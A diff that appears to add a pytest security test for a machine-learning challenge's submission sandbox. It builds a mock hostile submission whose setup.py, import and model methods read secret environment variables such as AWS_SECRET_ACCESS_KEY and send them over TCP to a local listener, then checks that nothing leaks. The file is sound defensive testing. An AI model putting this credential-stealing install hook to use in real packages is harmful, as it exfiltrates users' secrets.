@@ -1,0 +1,136 @@
+"""Participant code runs with nothing of ours: a hostile submission's setup.py, import,
+load_model() and predict() look for a secret of the caller's environment and try to reach a
+TCP listener on 127.0.0.1 opened here. They read nothing and connect nowhere.
+
+Proven live against main before the change (ca5213d, Linux 6.x, Landlock ABI 7, as root):
+setup.py printed the secret into install.log and connected to the listener (2 accepts, both
+carrying the secret: the environment's install and the run's package install); import,
+load_model() and predict() printed the secret into submission_output.log (their TCP connect
+was refused by Landlock).
+"""
+
+from __future__ import annotations
+
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+
+from challenge_welding.ingestion import environment as envmod
+from challenge_welding.ingestion.run import ingest
+
+from ingestion_helpers import GOOD, SETUP_PY, make_submission
+
+SECRET = "s3cr3t-value-0f-the-caller-9d1c"
+
+# Every stage of participant code reports what it sees: in a file of the submission's copy
+# (setup.py: uv keeps a build's output to itself) or on stdout (the run's log), and through a
+# TCP connection carrying it (the listener records what arrives). The logs are searched.
+SPY = '''
+import os, socket
+from pathlib import Path
+
+
+def _spy(stage, here, to_file=False):
+    port = int((here / "port.txt").read_text())
+    seen = os.environ.get("SECRET_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY") or "-"
+    line = f"SPY {stage} saw {seen!r}"
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
+            s.sendall(f"{stage}:{seen}".encode())
+    except OSError as exc:
+        line += f"; connect: {exc}"
+    if to_file:
+        with open(here.parent / "spy.log", "a") as fh:
+            fh.write(line + "\\n")
+    else:
+        print(line, flush=True)
+'''
+
+SETUP = SPY + '_spy("setup.py", Path(__file__).resolve().parent / "challenge_solution", True)\n' \
+    + SETUP_PY
+COMPONENT = SPY + 'HERE = Path(__file__).resolve().parent\n_spy("import", HERE)\n' + GOOD.replace(
+    "self.loaded = True", "self.loaded = True\n        _spy('load_model', HERE)").replace(
+    "assert self.loaded", "assert self.loaded\n        _spy('predict', HERE)")
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that records every connection and what it carried."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                data = b""
+                try:
+                    while chunk := conn.recv(4096):
+                        data += chunk
+                except OSError:
+                    pass
+                self.received.append(data)
+
+    def close(self):
+        self.stop.set()
+        self.thread.join()
+        self.sock.close()
+
+
+@pytest.fixture
+def listener():
+    lst = Listener()
+    yield lst
+    lst.close()
+
+
+def _texts(*folders) -> str:
+    return "\n".join(p.read_text(errors="replace") for d in folders if d and Path(d).is_dir()
+                     for p in Path(d).rglob("*") if p.is_file() and p.suffix in (".log", ".txt", ".json"))
+
+
+def test_caller_secret_and_network_reach_no_participant_code(tmp_path, input_data, listener,
+                                                            monkeypatch):
+    monkeypatch.setenv("SECRET_TOKEN", SECRET)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
+    sub = make_submission(tmp_path / "sub", COMPONENT, setup=SETUP,
+                          extra={"challenge_solution/port.txt": str(listener.port)},
+                          manifest="include challenge_solution/port.txt\n")
+    out = tmp_path / "out"
+    # a cache of its own: the build (setup.py) must run in this test
+    report = ingest(sub, input_data, out, cache_dir=tmp_path / "envs", sets=["performance"],
+                    batch_size=4, keep_workdir=True, progress=False, verbose=False)
+    texts = _texts(out, report.get("workdir"))
+    assert report["status"] == "ok", report["errors"]
+    # every stage ran and said what it saw: nothing
+    for stage in ("setup.py", "import", "load_model", "predict"):
+        assert f"SPY {stage} saw '-'" in texts, stage
+    assert SECRET not in texts
+    assert listener.received == []
+
+
+def test_participant_environment_is_the_documented_list(tmp_path, monkeypatch):
+    monkeypatch.setenv("SECRET_TOKEN", SECRET)
+    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.invalid:3128")
+    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "1")
+    env = envmod.participant_env(tmp_path / "home", tmp_path / "home" / "tmp")
+    assert env["HOME"] == str(tmp_path / "home") and env["TMPDIR"] == str(tmp_path / "home" / "tmp")
+    assert env["CUDA_VISIBLE_DEVICES"] == "1"
+    assert env["PATH"] == "/usr/local/bin:/usr/bin:/bin"
+    assert "SECRET_TOKEN" not in env and "HTTPS_PROXY" not in env
+    assert set(env) <= set(envmod.PARTICIPANT_ENV) | set(envmod.PARTICIPANT_ENV_PASS)
+    # the evaluator's own uv (no participant code) keeps the proxy and CA settings, no secret
+    tool = envmod.installer_env(tmp_path / "tmp")
+    assert tool["HTTPS_PROXY"] == "http://proxy.invalid:3128" and "SECRET_TOKEN" not in tool
